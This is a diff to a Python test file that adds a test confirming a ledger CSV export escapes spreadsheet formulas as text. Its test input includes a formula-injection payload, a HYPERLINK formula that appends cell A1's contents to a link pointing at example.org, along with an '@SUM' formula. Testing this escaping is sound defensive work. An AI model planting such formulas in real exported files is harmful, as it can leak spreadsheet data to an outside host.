@@ -5,6 +5,7 @@ with the exact line the user sees, and an ordinary input beside it that passes."
 from __future__ import annotations
 
 import gzip
+import json
 import os
 import textwrap
 
@@ -295,3 +296,27 @@ def test_body_detection_of_forty_thousand_paragraphs_is_quick():
               detected.ranges[0].end, sep="|")
     """, cpu_s=5, memory_mb=1024)
     assert out == "1|40000|Paragraph 0 says the delegation met|and agreed on item 39999.\n"
+
+
+# --- outputs: the ledger's CSV opens in a spreadsheet as text ----------------------------
+
+def test_a_csv_cell_that_a_spreadsheet_would_run_is_written_as_text(project):
+    import csv
+    import io
+
+    from briefing import export, validate
+    from briefing.paths import Project
+
+    edit(project, "ledger/2007.yaml", "summary: The minister offered joint work on early warning.",
+         'summary: \'=HYPERLINK("http://example.org/?"&A1, "click")\'')
+    edit(project, "ledger/2007.yaml", "note: Set aside at a second meeting.", "note: '@SUM(1+1)'")
+    where = Project.at(project)
+    validate.write_content_json(where)
+    export.write_exports(where)
+    rows = list(csv.DictReader(io.StringIO(where.ledger_csv.read_text(encoding="utf-8"))))
+    assert rows[0]["summary"] == '\'=HYPERLINK("http://example.org/?"&A1, "click")'
+    assert rows[0]["outcome_note"] == "'@SUM(1+1)"
+    assert rows[0]["id"] == "minister-offer-2007" and rows[0]["date"] == "2007-07"
+    assert rows[1]["summary"] == "A second meeting ended without agreement."
+    ledger = json.loads(where.ledger_json.read_text(encoding="utf-8"))  # JSON is data: as written
+    assert ledger["events"][0]["summary"].startswith("=HYPERLINK(")
